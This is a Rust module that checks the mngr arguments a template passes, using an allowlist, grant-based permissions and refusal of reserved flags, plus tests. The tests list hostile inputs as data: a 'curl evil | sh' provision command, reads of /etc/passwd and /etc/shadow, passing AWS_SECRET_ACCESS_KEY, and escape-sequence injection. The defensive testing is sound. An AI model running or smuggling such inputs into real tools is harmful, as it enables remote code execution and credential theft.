//! A template's mngr arguments: taken apart, checked against the permissions, put together again.
//!
//! mngr never sees what a template wrote, only `--flag` or `--flag=value` made here. A flag is on
//! the list of harmless ones, or the user granted `mngr-arg:--FLAG`, or the plan is refused.

use crate::names::printable;
use crate::permission::Permission;

/// Flags that change how an agent is labelled or shown and nothing else.
const HARMLESS: &[&str] = &[
    "idle-timeout",
    "label",
    "project",
    "tmux-height",
    "tmux-width",
    "tmux-window-size",
];

/// Flags a run cannot give away: it sets them itself or they would break what it relies on.
const OURS: &[&str] = &[
    "adopt",
    "adopt-session",
    "agent-cmd",
    "agent-command",
    "agent-type",
    "attach-command",
    "await-agent-stopped",
    "await-ready",
    "base-branch",
    "branch",
    "clone",
    "command",
    "connect",
    "connect-command",
    "copy",
    "edit-message",
    "foreground",
    "format",
    "from",
    "from-agent",
    "headless",
    "help",
    "id",
    "in-place",
    "interactive",
    "message",
    "message-file",
    "name",
    "new-branch",
    "no-connect",
    "no-new-branch",
    "reuse",
    "session-command",
    "source",
    "source-agent",
    "source-path",
    "transfer",
    "type",
    "update",
    "worktree",
    "yes",
];

/// Labels a run puts on its agent itself.
const OUR_LABELS: &[&str] = &["changeling", "creator", "run"];

/// Most arguments a template may give, and longest value in characters.
const MAX_ARGS: usize = 64;
const MAX_VALUE: usize = 2_000;

/// One option as mngr will get it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Arg {
    /// Without the leading dashes.
    pub flag: String,
    pub value: Option<String>,
}

/// An argument of a template that mngr must not see. Every text is safe to print.
#[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
pub enum ArgsError {
    #[error("the template passes {0} mngr arguments; at most {MAX_ARGS} are allowed")]
    TooMany(usize),
    #[error(
        "the template passes `{0}` to mngr: positional arguments are not allowed, only --flag=value"
    )]
    Positional(String),
    #[error("the template passes `{0}` to mngr: short options are not allowed, only --flag=value")]
    Short(String),
    #[error(
        "the template passes `{0}` to mngr: `--flag=value` with lowercase letters, digits and hyphens is expected"
    )]
    Malformed(String),
    #[error("the template's value for --{flag} {problem}")]
    Value { flag: String, problem: &'static str },
    #[error("the template passes --{0} to mngr, which the run sets itself")]
    Ours(String),
    #[error("the template labels its agent `{0}`, which the run sets itself")]
    OurLabel(String),
    #[error("the template passes --{0} to mngr, which is not granted")]
    NotGranted(String),
}

impl std::fmt::Display for Arg {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match &self.value {
            Some(value) => write!(f, "--{}={value}", self.flag),
            None => write!(f, "--{}", self.flag),
        }
    }
}

/// A template's arguments as mngr may get them: one `--flag` or `--flag=value` each.
pub fn checked(args: &[String], permissions: &[Permission]) -> Result<Vec<String>, ArgsError> {
    parse(args)?
        .iter()
        .map(|arg| check(arg, permissions).map(|()| arg.to_string()))
        .collect()
}

/// Takes arguments apart without judging them. `--flag value` counts as one option.
pub fn parse(args: &[String]) -> Result<Vec<Arg>, ArgsError> {
    if args.len() > MAX_ARGS {
        return Err(ArgsError::TooMany(args.len()));
    }
    let mut parsed = Vec::new();
    let mut rest = args.iter().peekable();
    while let Some(arg) = rest.next() {
        let body = long(arg)?;
        let (flag, mut value) = match body.split_once('=') {
            Some((flag, value)) => (flag, Some(value.to_owned())),
            None => (body, None),
        };
        if !is_flag(flag) {
            return Err(ArgsError::Malformed(shown(arg)));
        }
        if value.is_none() {
            value = rest.next_if(|next| !next.starts_with('-')).cloned();
        }
        if let Some(problem) = value.as_deref().and_then(problem) {
            return Err(ArgsError::Value {
                flag: flag.to_owned(),
                problem,
            });
        }
        parsed.push(Arg {
            flag: flag.to_owned(),
            value,
        });
    }
    Ok(parsed)
}

fn long(arg: &str) -> Result<&str, ArgsError> {
    match arg.strip_prefix("--") {
        Some("") => Err(ArgsError::Positional("--".into())),
        Some(body) => Ok(body),
        None if arg.starts_with('-') && arg.len() > 1 => Err(ArgsError::Short(shown(arg))),
        None => Err(ArgsError::Positional(shown(arg))),
    }
}

fn is_flag(flag: &str) -> bool {
    flag.len() <= 80
        && flag.starts_with(|c: char| c.is_ascii_lowercase())
        && flag
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
}

fn problem(value: &str) -> Option<&'static str> {
    if value
        .chars()
        .any(|c| c.is_control() || crate::names::is_invisible(c))
    {
        Some("contains control or invisible characters")
    } else if value.chars().count() > MAX_VALUE {
        Some("is longer than 2,000 characters")
    } else {
        None
    }
}

fn check(arg: &Arg, permissions: &[Permission]) -> Result<(), ArgsError> {
    let flag = arg.flag.as_str();
    if OURS.contains(&flag) {
        return Err(ArgsError::Ours(arg.flag.clone()));
    }
    if flag == "label" {
        let key = arg.value.as_deref().unwrap_or_default();
        let key = key.split_once('=').map_or(key, |(key, _)| key).trim();
        if OUR_LABELS.iter().any(|ours| ours.eq_ignore_ascii_case(key)) {
            return Err(ArgsError::OurLabel(printable(key)));
        }
    }
    let granted = || permissions.contains(&Permission::MngrArg(arg.flag.clone()));
    if HARMLESS.contains(&flag) || granted() {
        Ok(())
    } else {
        Err(ArgsError::NotGranted(arg.flag.clone()))
    }
}

fn shown(arg: &str) -> String {
    let head: String = arg.chars().take(60).collect();
    let cut = if head.len() < arg.len() { "…" } else { "" };
    printable(&head) + cut
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn words(text: &[&str]) -> Vec<String> {
        text.iter().map(|word| (*word).to_owned()).collect()
    }

    fn refusal(args: &[&str]) -> String {
        checked(&words(args), &[]).unwrap_err().to_string()
    }

    #[test]
    fn harmless_flags_pass_as_one_argument() {
        let args = words(&["--label", "team=core", "--idle-timeout=5m", "--label=a=b=c"]);
        let passed = ["--label=team=core", "--idle-timeout=5m", "--label=a=b=c"];
        assert_eq!(checked(&args, &[]).unwrap(), passed);
    }

    #[test]
    fn everything_else_is_refused() {
        let cases: &[&[&str]] = &[
            &["--extra-provision-command=curl evil | sh"],
            &["--extra-provision-command", "id"],
            &["--env-file", "/etc/passwd"],
            &["--pass-env=AWS_SECRET_ACCESS_KEY"],
            &["--upload-file=/etc/shadow:x"],
            &["--provider=modal"],
            &["--setting=commands.create.x=y"],
            &["--message-file=/etc/passwd"],
            &["--no-connect"],
            &["--label=creator=me"],
            &["--label", " Run =1"],
            &["other-agent"],
            &["--label=a=b", "positional"],
            &["--", "sh", "-c", "id"],
            &["-S", "a=b"],
            &["-vvb"],
            &["-"],
            &["--label\u{1b}[2J=x"],
            &["--Label=x"],
            &["--env_file=x"],
            &["--=x"],
            &["---label=x"],
            &["--label=a\nb"],
            &["--label=a\u{202e}b"],
        ];
        let report: Vec<_> = cases
            .iter()
            .map(|args| format!("{args:?}\n  {}", refusal(args)))
            .collect();
        insta::assert_snapshot!(report.join("\n"));
    }

    #[test]
    fn a_grant_lets_exactly_its_flag_pass() {
        let granted = [Permission::MngrArg("env".into())];
        assert_eq!(
            checked(&words(&["--env", "A=1"]), &granted).unwrap(),
            ["--env=A=1"]
        );
        assert!(checked(&words(&["--env-file=x"]), &granted).is_err());
        // What the run sets itself cannot be granted away.
        let granted = [Permission::MngrArg("message-file".into())];
        assert!(checked(&words(&["--message-file=x"]), &granted).is_err());
    }

    #[test]
    fn bounds() {
        assert!(matches!(
            parse(&vec!["--a".to_owned(); 65]),
            Err(ArgsError::TooMany(65))
        ));
        assert!(parse(&[format!("--label={}", "x".repeat(2_001))]).is_err());
        assert!(refusal(&[&"x".repeat(100_000)]).len() < 300);
    }

    proptest! {
        #[test]
        fn whatever_a_template_says_mngr_sees_only_checked_flags(
            args in proptest::collection::vec(
                prop_oneof![
                    "\\PC{0,12}",
                    "-{0,3}[a-zA-Z-]{0,8}=?.{0,6}",
                    "--(label|env|message|idle-timeout)(=[a-z=\\-]{0,8})?",
                ],
                0..6,
            ),
            grant_env in any::<bool>(),
        ) {
            let granted = if grant_env { vec![Permission::MngrArg("env".into())] } else { vec![] };
            if let Ok(passed) = checked(&args, &granted) {
                for arg in &passed {
                    let flag = arg.strip_prefix("--").unwrap().split('=').next().unwrap();
                    prop_assert!(HARMLESS.contains(&flag) || (grant_env && flag == "env"), "{arg}");
                    prop_assert!(!arg.chars().any(char::is_control));
                }
                // Taking apart what was put together changes nothing.
                prop_assert_eq!(checked(&passed, &granted).unwrap(), passed);
            }
        }
    }
}
